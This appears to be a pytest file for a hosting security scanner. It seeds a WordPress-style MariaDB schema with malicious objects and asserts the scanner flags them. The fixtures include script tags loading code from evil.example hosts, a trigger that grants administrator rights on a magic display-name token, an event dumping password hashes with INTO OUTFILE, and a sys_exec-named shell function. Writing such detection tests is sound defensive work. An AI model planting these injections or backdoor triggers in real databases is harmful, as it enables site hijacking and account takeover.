"""Every kind of database object on the real MariaDB: events, procedures and functions,
malicious and benign, in a WordPress-shaped schema the test builds."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

from csm.accounts.model import Account, WordPressSite
from csm.clock import SystemClock
from csm.config.scanrules import default_database_rules
from csm.mysql import Credentials
from csm.scan.database import DatabaseCheck
from tests.conftest import MARIADB

WP = (
    "CREATE TABLE wp_users (ID BIGINT PRIMARY KEY, user_login VARCHAR(60), user_pass VARCHAR(255),"
    " user_email VARCHAR(100), user_registered DATETIME, display_name VARCHAR(250))",
    "CREATE TABLE wp_usermeta (umeta_id BIGINT AUTO_INCREMENT PRIMARY KEY, user_id BIGINT,"
    " meta_key VARCHAR(255), meta_value LONGTEXT)",
    "CREATE TABLE wp_options (option_id BIGINT AUTO_INCREMENT PRIMARY KEY,"
    " option_name VARCHAR(191), option_value LONGTEXT)",
    "INSERT INTO wp_users VALUES (1, 'admin', 'x', 'a@example.com', '2024-01-01 10:00:00', 'A')",
    "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES"
    " (1, 'wp_capabilities', 'a:1:{s:13:\"administrator\";b:1;}')",
    "INSERT INTO wp_options (option_name, option_value) VALUES"
    " ('siteurl', 'https://shop.example\"><script src=https://evil.example/x.js></script>'),"
    " ('widget_text', '<script src=\"https://www.googletagmanager.com/gtag.js\"></script>')",
    "CREATE TABLE wp_posts (ID BIGINT PRIMARY KEY, post_content LONGTEXT)",
    "INSERT INTO wp_posts VALUES (7, 'Sale! <script src=\"//cdn.evil.example/p.js\"></script>'),"
    " (8, 'plain text about <script> tags')",
)
TRIGGER = (  # the reference's shape: a comment's magic token makes its author an administrator
    "CREATE TRIGGER wp_sync AFTER INSERT ON wp_users FOR EACH ROW BEGIN"
    " IF NEW.display_name LIKE '%Qw7RtY9uIoP2%' THEN UPDATE wp_usermeta SET meta_value ="
    " 'a:1:{s:13:\"administrator\";b:1;}' WHERE user_id = NEW.ID; END IF; END"
)
RECENT = datetime.now(UTC) - timedelta(days=1)
USERS = (
    "INSERT INTO wp_users VALUES (2, 'helper', 'x', 'h@mailinator.com', %s, 'Help Qw7RtY9uIoP2')",
    "INSERT INTO wp_users VALUES (3, 'newadmin', 'x', 'n@example.com', %s, 'New')",
)
OBJECTS = (
    "CREATE EVENT leak ON SCHEDULE EVERY 1 DAY DO"
    " SELECT user_pass FROM wp_users INTO OUTFILE '/tmp/csm-test-never-written'",
    "CREATE PROCEDURE tidy() BEGIN DELETE FROM wp_options WHERE option_name = 'x'; END",
    "CREATE FUNCTION udf_shell(c TEXT) RETURNS TEXT DETERMINISTIC RETURN CONCAT('sys_exec', c)",
    TRIGGER,
)


def test_events_routines_and_options(mariadb_schema: tuple[Any, str]) -> None:
    conn, schema = mariadb_schema
    with conn.cursor() as cursor:
        for statement in (*WP, *OBJECTS):
            cursor.execute(statement)
        for statement in USERS:
            cursor.execute(statement, (RECENT.strftime("%Y-%m-%d %H:%M:%S"),))
        cursor.execute(
            "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (2, 'wp_capabilities',"
            " 'administrator'), (3, 'wp_capabilities', 'administrator')"
        )
    site = WordPressSite("/home/shop/public_html", "/home/shop/public_html/wp-config.php",
                         schema, "root", "localhost", "wp_", ())  # fmt: skip
    account = Account("shop", "cpanel", "/home/shop", 1000, "shop.example", sites=(site,),
                      databases=(schema,))  # fmt: skip
    creds = Credentials(MARIADB["host"], MARIADB["port"], MARIADB["user"], "", None)  # type: ignore[arg-type]
    scan = DatabaseCheck(lambda: creds, default_database_rules(), SystemClock().now()).run(account)
    assert not scan.errors and scan.schemas == [schema]
    verdicts = {(o.kind, o.name): o.verdict for o in scan.objects}
    assert verdicts == {("event", "leak"): "malicious", ("procedure", "tidy"): "unexpected",
                        ("function", "udf_shell"): "malicious",
                        ("trigger", "wp_sync"): "malicious"}  # fmt: skip
    checks = sorted((f.check, f.details.get("login", "")) for f in scan.findings)
    assert checks == [
        ("db_magic_token_user", "helper"), ("db_malicious_event", ""),
        ("db_malicious_function", ""), ("db_malicious_trigger", ""),
        ("db_options_injection", ""), ("db_post_injection", ""),
        ("db_rogue_admin", "newadmin"), ("db_siteurl_hijack", ""),
        ("db_suspicious_admin_email", "helper"), ("db_unexpected_procedure", ""),
    ]  # fmt: skip
